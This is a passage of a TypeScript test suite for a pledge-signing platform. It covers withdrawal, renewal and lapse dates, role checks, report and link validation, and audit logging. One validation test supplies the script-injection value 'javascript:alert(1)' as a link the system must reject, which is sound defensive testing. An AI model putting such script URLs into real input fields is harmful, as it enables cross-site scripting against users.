    expect(withdrawn.withdrawnAt).toBeInstanceOf(Date);
    expect(signatureStatus(withdrawn, pledge.renewalMonths, new Date())).toBe('WITHDRAWN');
    expect(await currentSignature(ctx, pledge.id, org.id)).toBeNull();
    const event = await t.db.auditEvent.findFirstOrThrow({ where: { subjectId: pledge.id, action: 'pledge.withdrawn' } });
    expect(event).toMatchObject({ subjectType: 'Pledge', organizationId: org.id, actorId: orgAdmin.id });
    expect(event.data).toMatchObject({ signatureId: signature.id, reason });

    const again = await expectRefused(() => withdrawPledgeSignature(ctx, { signatureId: signature.id, reason: 'Withdrawing once more.' }), ConflictError);
    expect(again.message).toBe('errors.signatureWithdrawn');
    expect((await t.db.pledgeSignature.findUniqueOrThrow({ where: { id: signature.id } })).withdrawalReason).toBe(reason);
    // A withdrawn signature is not renewed.
    await expectRefused(() => renewPledgeSignature(ctx, { signatureId: signature.id, report: REPORT }), ConflictError);
    // The organisation may sign again later: a new signature, the withdrawn one stays in the register.
    const fresh = await signPledge(ctx, signInput(pledge.id, org));
    expect(fresh.id).not.toBe(signature.id);
    expect(await t.db.pledgeSignature.count({ where: { pledgeId: pledge.id, organizationId: org.id } })).toBe(2);
  });

  it('needs a reason of at least 10 characters, and the right person', async () => {
    const { pledge } = await makePledge(t.db);
    const org = await makeOrganization(t.db);
    const other = await makeOrganization(t.db);
    const { ctx } = await memberWithCtx(t.db, org.id, 'SIGNATORY');
    const signature = await signPledge(ctx, signInput(pledge.id, org));
    for (const reason of [undefined, '', '   ', 'Too short', '  123456789  ']) {
      const error = await expectRefused(() => withdrawPledgeSignature(ctx, { signatureId: signature.id, reason }), ValidationError);
      expect(error.fieldErrors).toEqual({ reason: ['errors.reasonRequired'] });
    }
    for (const role of ['MEMBER', 'LIAISON_OFFICER'] as const) {
      const { ctx: memberCtx } = await memberWithCtx(t.db, org.id, role);
      await expectRefused(() => withdrawPledgeSignature(memberCtx, { signatureId: signature.id, reason: 'I do not like it at all.' }), ForbiddenError);
    }
    const { ctx: outsider } = await memberWithCtx(t.db, other.id, 'ORG_ADMIN');
    await expectRefused(() => withdrawPledgeSignature(outsider, { signatureId: signature.id, reason: 'I do not like it at all.' }), ForbiddenError);
    const { ctx: adminCtx } = await platformAdmin(t.db);
    await expectRefused(() => withdrawPledgeSignature(adminCtx, { signatureId: signature.id, reason: 'I do not like it at all.' }), ForbiddenError);
    await expectRefused(() => withdrawPledgeSignature(ctx, { signatureId: 'no-such-signature', reason: 'I do not like it at all.' }), NotFoundError);
    expect((await t.db.pledgeSignature.findUniqueOrThrow({ where: { id: signature.id } })).withdrawnAt).toBeNull();
  });
});

describe('lapse and renewal', () => {
  it('a signature is active until the instant it falls due, lapses then, and a progress report renews it', async () => {
    const { pledge } = await makePledge(t.db, { renewalMonths: 1 });
    const org = await makeOrganization(t.db);
    const { user: signatory, ctx } = await memberWithCtx(t.db, org.id, 'SIGNATORY');
    const signedAt = new Date('2027-01-31T10:00:00.000Z');
    const signature = await signPledge(at(ctx, signedAt), signInput(pledge.id, org));
    expect(signature.signedAt.toISOString()).toBe('2027-01-31T10:00:00.000Z');
    expect(signature.lastRenewedAt.toISOString()).toBe('2027-01-31T10:00:00.000Z');

    const stored = await t.db.pledgeSignature.findUniqueOrThrow({ where: { id: signature.id }, include: { pledge: true } });
    const due = renewalDue(stored.lastRenewedAt, stored.pledge.renewalMonths)!;
    expect(due.toISOString()).toBe('2027-02-28T10:00:00.000Z'); // Jan 31 + 1 month, clamped
    expect(signatureStatus(stored, stored.pledge.renewalMonths, new Date(due.getTime() - 1))).toBe('ACTIVE');
    expect(signatureStatus(stored, stored.pledge.renewalMonths, due)).toBe('LAPSED');

    // Renewed a week after it lapsed: active again, due a month after the renewal.
    const renewedAt = new Date('2027-03-07T09:30:00.000Z');
    const links = ['https://customs.example.kz/fees-2027.pdf', 'http://example.org/training'];
    const { signature: renewed, report } = await renewPledgeSignature(at(ctx, renewedAt), { signatureId: signature.id, report: REPORT, links });
    expect(renewed.lastRenewedAt.toISOString()).toBe('2027-03-07T09:30:00.000Z');
    expect(renewed.signedAt.toISOString()).toBe('2027-01-31T10:00:00.000Z');
    expect(signatureStatus(renewed, pledge.renewalMonths, renewedAt)).toBe('ACTIVE');
    expect(signatureStatus(renewed, pledge.renewalMonths, new Date('2027-04-07T09:29:59.999Z'))).toBe('ACTIVE');
    expect(signatureStatus(renewed, pledge.renewalMonths, new Date('2027-04-07T09:30:00.000Z'))).toBe('LAPSED');
    expect(report).toMatchObject({ pledgeId: pledge.id, signatureId: signature.id, organizationId: org.id, body: REPORT, links, createdById: signatory.id });
    expect(report.createdAt.toISOString()).toBe('2027-03-07T09:30:00.000Z');
    expect(await t.db.pledgeProgressReport.count({ where: { signatureId: signature.id } })).toBe(1);

    const event = await t.db.auditEvent.findFirstOrThrow({ where: { subjectId: pledge.id, action: 'pledge.renewed' } });
    expect(event).toMatchObject({ subjectType: 'Pledge', organizationId: org.id, actorId: signatory.id });
    expect(event.data).toMatchObject({ signatureId: signature.id, reportId: report.id, statusBefore: 'LAPSED', links });
  });

  it('renewing an active signature moves its due date too', async () => {
    const { pledge } = await makePledge(t.db, { renewalMonths: 12 });
    const org = await makeOrganization(t.db);
    const { ctx } = await memberWithCtx(t.db, org.id, 'ORG_ADMIN');
    const signature = await signPledge(at(ctx, '2027-06-15T08:00:00.000Z'), signInput(pledge.id, org));
    expect(signatureStatus(signature, 12, new Date('2028-06-15T07:59:59.999Z'))).toBe('ACTIVE');
    expect(signatureStatus(signature, 12, new Date('2028-06-15T08:00:00.000Z'))).toBe('LAPSED');
    const { signature: renewed } = await renewPledgeSignature(at(ctx, '2027-12-01T00:00:00.000Z'), { signatureId: signature.id, report: REPORT });
    expect(renewalDue(renewed.lastRenewedAt, 12)?.toISOString()).toBe('2028-12-01T00:00:00.000Z');
    expect(signatureStatus(renewed, 12, new Date('2028-06-15T08:00:00.000Z'))).toBe('ACTIVE');
    const event = await t.db.auditEvent.findFirstOrThrow({ where: { subjectId: pledge.id, action: 'pledge.renewed' } });
    expect(event.data).toMatchObject({ statusBefore: 'ACTIVE', links: [] });
  });

  it('leap-year and month-end due dates hold through the database', async () => {
    const { pledge: monthly } = await makePledge(t.db, { renewalMonths: 1 });
    const { pledge: halfYearly } = await makePledge(t.db, { renewalMonths: 6 });
    const org = await makeOrganization(t.db);
    const { ctx } = await memberWithCtx(t.db, org.id, 'SIGNATORY');
    const leap = await signPledge(at(ctx, '2028-01-31T10:00:00.000Z'), signInput(monthly.id, org));
    const august = await signPledge(at(ctx, '2027-08-31T12:00:00.000Z'), signInput(halfYearly.id, org));
    const [leapRow, augustRow] = await Promise.all([leap, august].map((s) => t.db.pledgeSignature.findUniqueOrThrow({ where: { id: s.id } })));
    expect(signatureStatus(leapRow, 1, new Date('2028-02-29T09:59:59.999Z'))).toBe('ACTIVE');
    expect(signatureStatus(leapRow, 1, new Date('2028-02-29T10:00:00.000Z'))).toBe('LAPSED');
    expect(signatureStatus(augustRow, 6, new Date('2028-02-29T11:59:59.999Z'))).toBe('ACTIVE');
    expect(signatureStatus(augustRow, 6, new Date('2028-02-29T12:00:00.000Z'))).toBe('LAPSED');
  });

  it('a pledge without a renewal period never lapses; withdrawn wins over lapsed', async () => {
    const { pledge: forever } = await makePledge(t.db, { renewalMonths: null });
    const { pledge: monthly } = await makePledge(t.db, { renewalMonths: 1 });
    const org = await makeOrganization(t.db);
    const { ctx } = await memberWithCtx(t.db, org.id, 'SIGNATORY');
    const lasting = await signPledge(at(ctx, '2027-01-01T00:00:00.000Z'), signInput(forever.id, org));
    expect(signatureStatus(lasting, forever.renewalMonths, new Date('2077-01-01T00:00:00.000Z'))).toBe('ACTIVE');
    expect(renewalDue(lasting.lastRenewedAt, forever.renewalMonths)).toBeNull();

    const lapsing = await signPledge(at(ctx, '2027-01-01T00:00:00.000Z'), signInput(monthly.id, org));
    expect(signatureStatus(lapsing, 1, new Date('2027-03-01T00:00:00.000Z'))).toBe('LAPSED');
    // Withdrawn while lapsed: withdrawn it is.
    const withdrawn = await withdrawPledgeSignature(at(ctx, '2027-03-01T00:00:00.000Z'), { signatureId: lapsing.id, reason: 'We could not keep up.' });
    expect(withdrawn.withdrawnAt?.toISOString()).toBe('2027-03-01T00:00:00.000Z');
    expect(signatureStatus(withdrawn, 1, new Date('2027-03-01T00:00:00.000Z'))).toBe('WITHDRAWN');
  });

  it('validates reports and links, and refuses the wrong people and closed pledges, writing nothing', async () => {
    const { pledge, adminCtx } = await makePledge(t.db);
    const org = await makeOrganization(t.db);
    const other = await makeOrganization(t.db);
    const { ctx } = await memberWithCtx(t.db, org.id, 'SIGNATORY');
    const signature = await signPledge(ctx, signInput(pledge.id, org));
    const renew = (c = ctx, extra: Record<string, unknown> = {}) => renewPledgeSignature(c, { signatureId: signature.id, report: REPORT, ...extra });

    expect((await expectRefused(() => renew(ctx, { report: 'Did some things.' }), ValidationError)).fieldErrors).toEqual({
      report: [{ key: 'errors.tooShort', params: { min: 20, count: 20 } }],
    });
    const eleven = Array.from({ length: 11 }, (_, i) => `https://example.org/evidence/${i}`);
    expect((await expectRefused(() => renew(ctx, { links: eleven }), ValidationError)).fieldErrors).toEqual({
      links: [{ key: 'errors.tooMany', params: { max: 10, count: 10 } }],
    });
    for (const bad of ['javascript:alert(1)', 'ftp://example.org/report.pdf', 'example.org/report']) {
      expect((await expectRefused(() => renew(ctx, { links: [bad] }), ValidationError)).fieldErrors).toEqual({ 'links.0': ['errors.url'] });
    }
    for (const role of ['MEMBER', 'LIAISON_OFFICER'] as const) {
      const { ctx: memberCtx } = await memberWithCtx(t.db, org.id, role);
      await expectRefused(() => renew(memberCtx), ForbiddenError);
    }
    const { ctx: outsider } = await memberWithCtx(t.db, other.id, 'SIGNATORY');
    await expectRefused(() => renew(outsider), ForbiddenError);
    await expectRefused(() => renew(adminCtx), ForbiddenError);
    await expectRefused(() => renewPledgeSignature(ctx, { signatureId: 'no-such-signature', report: REPORT }), NotFoundError);

    const ten = eleven.slice(0, 10);
    const { report } = await renew(ctx, { links: ten });
    expect(report.links).toEqual(ten);
    await closePledge(adminCtx, { pledgeId: pledge.id });
    await expectRefused(() => renew(ctx), ConflictError);
  });
});

describe('audit', () => {
  it('every step of a pledge is audited on the pledge, and the chain holds', async () => {
    const { pledge, adminCtx } = await makePledge(t.db, { renewalMonths: 3 });
    const org = await makeOrganization(t.db);
    const { ctx } = await memberWithCtx(t.db, org.id, 'SIGNATORY');
    const first = await signPledge(ctx, signInput(pledge.id, org));
    await renewPledgeSignature(ctx, { signatureId: first.id, report: REPORT });
    await publishPledgeVersion(adminCtx, { pledgeId: pledge.id, title: 'Zero tolerance v2', body: PLEDGE_BODY, factors: ['CODE_OF_CONDUCT'] });
    const second = await signPledge(ctx, signInput(pledge.id, org));
    await withdrawPledgeSignature(ctx, { signatureId: second.id, reason: 'Leaving the programme.' });
    await closePledge(adminCtx, { pledgeId: pledge.id });

    const events = await pledgeEvents(pledge.id);
    expect(events.map((e) => e.action)).toEqual([
      'pledge.drafted',
      'pledge.published',
      'pledge.signed',
      'pledge.renewed',
      'pledge.version_published',
      'pledge.resigned',
      'pledge.withdrawn',
      'pledge.closed',
    ]);
    for (const event of events) expect(event).toMatchObject({ subjectType: 'Pledge', subjectId: pledge.id });
    expect(await verifyAuditChain(t.db)).toMatchObject({ ok: true });
  });
});

describe('signing again after a withdrawal', () => {
  it('replaces the withdrawn signature in the register and keeps the withdrawal in the history', async () => {
    const { pledge } = await makePledge(t.db);
    const org = await makeOrganization(t.db, { kind: 'BUSINESS_ASSOCIATION' });
    const { ctx } = await memberWithCtx(t.db, org.id, 'SIGNATORY');
    const first = await signPledge(ctx, { pledgeId: pledge.id, organizationId: org.id, confirmation: confirmationFor(org) });
    await withdrawPledgeSignature(ctx, { signatureId: first.id, reason: 'Our board has not yet approved it.' });
    await signPledge(ctx, { pledgeId: pledge.id, organizationId: org.id, confirmation: confirmationFor(org) });
    const mine = await registerEntriesOf(t.db, pledge.id, [org.id], new Date());
    expect(mine.map((e) => e.status)).toEqual(['ACTIVE']);
    expect((await signatureCounts(t.db, [pledge.id], new Date())).get(pledge.id)).toEqual({ ACTIVE: 1, LAPSED: 0, WITHDRAWN: 0, unverified: 0, total: 1 });
    const actions = (await t.db.auditEvent.findMany({ where: { subjectId: pledge.id, organizationId: org.id }, orderBy: { seq: 'asc' } })).map((e) => e.action);
    expect(actions).toEqual(['pledge.signed', 'pledge.withdrawn', 'pledge.signed']);
  });
});
